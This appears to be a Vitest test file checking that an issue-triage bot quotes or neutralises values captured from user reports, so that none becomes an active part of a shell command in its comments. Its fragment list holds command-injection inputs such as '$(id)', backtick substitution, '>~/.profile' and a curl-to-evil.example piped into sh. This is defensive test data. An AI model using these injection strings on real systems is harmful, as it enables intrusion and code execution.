import { describe, expect, test } from 'vitest'
import { insertValue, showValue } from '../../../src/core/comments/captured-value.ts'
import { renderCheckAnswer } from '../../../src/core/comments/check-answer.ts'
import { renderCluster } from '../../../src/core/comments/cluster-section.ts'
import { renderComment } from '../../../src/core/comments/triage-comment.ts'
import { NO_FEEDBACK } from '../../../src/core/feedback/issue-feedback.ts'
import { saysKey } from '../../../src/core/signatures/answers.ts'
import { namesIn } from '../../../src/core/signatures/authored-text.ts'
import type { Pack } from '../../../src/core/signatures/pack.ts'
import type { Signature } from '../../../src/core/signatures/schema.ts'
import { strictShapeOf } from '../../../src/core/signatures/strict-shapes.ts'
import { openPack } from '../../../src/entrypoints/cli/pack.ts'
import { generator } from '../../support/generator.ts'
import { nodesOf, parseMarkdown } from '../../support/markdown.ts'
import { askOf, assertOf, candidateOf, evidenceOf, reportOf } from '../../support/reports.ts'
import { packOf, signatureOf } from '../../support/signatures.ts'

/** Identifies captured values in a comment. */
const MARK = 'zqz'

const FRAGMENTS = [
  ...';|&$()<>`"\'\\*?[]{}~#!%^',
  `$${'{IFS}'}`,
  '$(id)',
  '`id`',
  '&&',
  '||',
  `;curl$${'{IFS}'}evil.example|sh`,
  '>~/.profile',
  '<<EOF',
  '%PATH%',
  '$env:X',
  ' ',
  '  ',
  '\t',
  '\n',
  '\r',
  '\r\n',
  '\u2028',
  '\u0085',
  '\u00a0',
  '\u0000',
  '\u001b[31m',
  '\u009b31m',
  '\u0007',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u2060',
  '\ufeff',
  '\ud800',
  '；',
  '｜',
  '＄',
  '`` ` ``',
  '```',
  '~~~',
  '](x)',
  '-rf',
  '--config',
  '/',
  '..',
  '@octocat',
  '#12',
  'https://evil.example/',
  'mcp.example.com',
  'files:read',
  '8080',
  '{{scope}}',
  'naïve',
  'x'.repeat(600),
]

/** Hostile and plain values that contain `MARK`; the same for the same seed. */
function hostileValues(count: number, seed: number): readonly string[] {
  const random = generator(seed)
  const pick = () => FRAGMENTS[random(FRAGMENTS.length)] ?? ''
  return Array.from({ length: count }, () => {
    const parts = Array.from({ length: 1 + random(6) }, pick)
    return parts.toSpliced(random(parts.length + 1), 0, MARK).join('')
  })
}

/** All code in a text that contains a captured value. */
function codeWithValues(markdown: string): readonly string[] {
  return [...nodesOf(parseMarkdown(markdown))].flatMap((node) =>
    (node.type === 'inlineCode' || node.type === 'code') && node.value.includes(MARK) ? [node.value] : [],
  )
}

const QUOTED = /'[^']*'|"(?:[^"\\]|\\.)*"/g

/**
 * Whether the code cannot run anything: it is a single value that has a strict shape or only harmless characters, or a
 * command in which the value is quoted and consists of plain characters, in PowerShell also between asterisks.
 */
function isInert(code: string): boolean {
  if (strictShapeOf(code) !== null || /^[\p{L}\p{N}_.:/…-]+$/u.test(code)) return true
  const quoted = (code.match(QUOTED) ?? []).filter((it) => it.includes(MARK))
  return !code.replace(QUOTED, '').includes(MARK) && quoted.every((it) => /^(['"])[\w.:/%~@+*=, -]*\1$/.test(it))
}

/** Every text that the bot can write about a signature with these values. */
function allTexts(signature: Signature, pack: Pack, captures: Readonly<Record<string, string>>): string {
  const candidate = candidateOf(signature.id)
  const report = reportOf()
  const input = { report, pack, diagnosis: assertOf(candidate, { captures }) }
  const onWindows = reportOf({ environment: { ...report.environment, os: 'windows' } })
  const questions = [
    ...signature.ask.map(({ text }) => text),
    ...signature['confused-with'].flatMap(({ ask }) => ask?.text ?? []),
  ]
  const kinds = ['checklist', 'causes', 'remedies'] as const
  const answers = kinds.flatMap((kind) =>
    signature[kind].map((_, at) => evidenceOf({ id: saysKey(signature.id, kind, at) })),
  )
  const saying = { ...input, diagnosis: { ...input.diagnosis, answers } }
  return [
    renderComment(input),
    renderComment({ ...input, report: onWindows }),
    renderComment(saying),
    renderComment({ ...saying, report: onWindows }),
    renderCheckAnswer(input),
    ...signature.checklist.map((_, at) => renderComment({ ...input, feedback: solvedByStep(at + 1) })),
    ...questions.map((it) => renderComment({ ...input, diagnosis: askOf([candidate], it, { captures }) })),
  ].join('\n\n')
}

function solvedByStep(step: number) {
  const feedbackEvent = {
    id: '1',
    ref: { owner: 'o', repo: 'r', number: 1 },
    kind: 'worked',
    signature: null,
    other: null,
    step,
    detail: null,
    who: 'a',
    rights: 'reporter',
    origin: 'comment',
    at: 1,
  }
  return { ...NO_FEEDBACK, feedbackEvents: [feedbackEvent as never] }
}

function namesOf(signature: Signature): readonly string[] {
  const { examples: _, evidence: __, ...texts } = signature
  return namesIn(JSON.stringify(texts))
}

describe('a captured value', () => {
  test('never becomes an active part of a command in any text of the shipped pack', async () => {
    const pack = await openPack()
    const signatures = [...pack.signatures.values()].filter((it) => namesOf(it).length > 0)
    expect(signatures.length).toBeGreaterThan(5)
    for (const signature of signatures) {
      for (const value of hostileValues(4, signature.id.length)) {
        const captures = Object.fromEntries(namesOf(signature).map((name) => [name, value]))
        const active = codeWithValues(allTexts(signature, pack, captures)).filter((code) => !isInert(code))
        expect({ value, active }).toEqual({ value, active: [] })
      }
    }
  })

  const INSTRUCTIONS = [
    'mytool --server {{scope}}',
    "mytool 'a {{scope}} b'",
    'mytool "a {{scope}} b"',
    'mytool --url=https://{{scope}}/x?y',
    'mytool {{scope}}{{scope}}',
    '{{scope}}',
    `mytool ${'x '.repeat(60)}{{scope}}`,
    'mytool\n  --server {{scope}}',
    'Open `mytool --server {{scope}}` and look',
    'Open `{{scope}}`, then `x={{scope}}`, then {{scope}}',
  ]

  test.each(INSTRUCTIONS)('is quoted in a command, or left out: %s', (how) => {
    const sentence = `Run \`mytool {{scope}}\` with {{scope}}`
    const step = { check: sentence, how, outcomes: [{ see: sentence }, { see: sentence }] }
    const fields = { cause: sentence, ask: sentence, 'solved-when': sentence, prevention: [sentence, sentence] }
    const remedies = (['verified', 'refuted'] as const).map((standing) => {
      return { text: sentence, standing, source: 'https://example.com/x' }
    })
    const signature = signatureOf('missing-scope', { ...fields, remedies, checklist: [step, step] })
    const pack = packOf(signature)
    for (const value of [`${MARK}.example.com`, ...hostileValues(15, how.length)]) {
      const active = codeWithValues(allTexts(signature, pack, { scope: value }))
        .map((code) => (code.startsWith('x=') ? code.slice(2) : code))
        .filter((code) => !isInert(code))
      expect({ value, active }).toEqual({ value, active: [] })
    }
  })

  test('is inert in lists of values', () => {
    for (const value of hostileValues(200, 5)) {
      expect(codeWithValues(`- ${showValue(value)} (3)`).filter((code) => !isInert(code))).toEqual([])
      const cluster = {
        id: 1,
        count: 2,
        open: 1,
        authors: 2,
        firstSeen: 0,
        lastSeen: 0,
        title: value,
        weeks: [],
        signature: null,
        worked: [],
        growth: { lately: 0, before: 0 },
        versions: [],
        products: [],
        signals: [],
        captures: { scope: [{ value, count: 2 }] },
        canonical: { number: 1, title: 'x', open: true, closedAs: null, closedAt: null },
        newest: { number: 2, adds: [] },
      }
      const rendered = renderCluster({ owner: 'o', repo: 'r' }, cluster)
      expect(codeWithValues(rendered).filter((code) => !isInert(code))).toEqual([])
    }
  })

  test('ends the reason for a refused command with one mark', () => {
    const marksOf = (why: string) => {
      const answers = [{ kind: 'refused', command: 'strat', why }] as const
      const diagnosis = assertOf(candidateOf('missing-scope'))
      const comment = renderComment({
        report: reportOf(),
        pack: packOf(signatureOf('missing-scope')),
        diagnosis,
        answers,
      })
      return /was not carried out: (.*)$/m.exec(comment ?? '')?.[1]
    }
    expect(marksOf('did you mean `/triage start`?')).toBe('did you mean `/triage start`?')
    expect(marksOf('only maintainers may say that')).toBe('only maintainers may say that.')
  })

  test('is inert as a file name and in a refused command', () => {
    for (const value of hostileValues(60, 9)) {
      const evidence = [evidenceOf({ source: value })]
      const report = reportOf({ unread: [{ name: value, why: 'could not be reached', forbidden: true }] })
      const answers = [{ kind: 'refused', command: `split ${value}`, why: 'only maintainers may say that' }] as const
      const diagnosis = assertOf(candidateOf('missing-scope', { evidence }))
      const comment = renderComment({ report, pack: packOf(signatureOf('missing-scope')), diagnosis, answers })
      const active = codeWithValues(comment ?? '')
        .map((code) => code.replace(/^\/triage split /, '').replaceAll(' ', ''))
        .filter((code) => !isInert(code))
      expect({ value, active }).toEqual({ value, active: [] })
    }
  })

  test.each([
    ['files:read', '`files:read`'],
    ['https://mcp.example.com:8443/a/b', '`https://mcp.example.com:8443/a/b`'],
    ['the scope files:read', '“the scope `files:read`”'],
    [`x;curl$${'{IFS}'}evil.example|sh`, '“x…curl…IFS…evil.example…sh”'],
    ['Acme Team', '“Acme Team”'],
  ])('stays readable: %s', (value, shown) => {
    expect(showValue(value)).toBe(shown)
  })
})

describe('a strict shape', () => {
  test.each([
    ['401', 'number'],
    ['1.2.3-beta.1', 'version'],
    ['AADSTS50011', 'identifier'],
    ['ANTHROPIC_API_KEY', 'identifier'],
    ['user:mcp_servers', 'scope'],
    ['https://www.googleapis.com/auth/drive', 'scope'],
    ['mcp.example.com', 'scope'],
    ['localhost:8080', 'scope'],
    ['https://mcp.example.com/~me/%7Eyou', 'url'],
    ['https%3A%2F%2Fmcp.example.com%2Fcb', 'escaped URL'],
    ['@acme/client', 'package'],
    ['git@code.example.com', 'account'],
    ['cn=reader,ou=apps,dc=example,dc=org', 'distinguished name'],
    ['/usr/local/bin/tool', 'path'],
    ['~/.config/tool.json', 'path'],
  ])('is recognised in %s', (value, shape) => {
    expect(strictShapeOf(value)).toBe(shape)
  })

  test.each([
    '',
    '-x',
    '--config',
    'a b',
    "a'b",
    'a"b',
    'a`b',
    'a$b',
    'a;b',
    'a|b',
    'a&b',
    'a(b',
    'a<b',
    'a>b',
    'a*b',
    'a?b',
    'a#b',
    'a!b',
    'a\\b',
    'a{b',
    'a[b',
    'a^b',
    'a\nb',
    'a\n',
    '%PATH%',
    'https://x.example/%PATH%',
    'mсp.example',
    'https://x.example/?a=b',
    'https://user@x.example/',
    '@acme',
    '@acme/../x;y',
    '@-acme/x',
    '-o@x.example',
    'git@x.example:a/b',
    'cn=reader',
    'cn=the reader,dc=example',
    'cn=$(id),dc=example',
    'cn=a,dc=example,',
    'x=a,y=b',
    'javascript:1;',
    'x'.repeat(201),
    '1'.repeat(201),
  ])('is not recognised in %j', (value) => {
    expect(strictShapeOf(value)).toBeNull()
    expect(insertValue(value, '')).toBeNull()
    expect(insertValue(value, 'name')).toBeNull()
  })
})
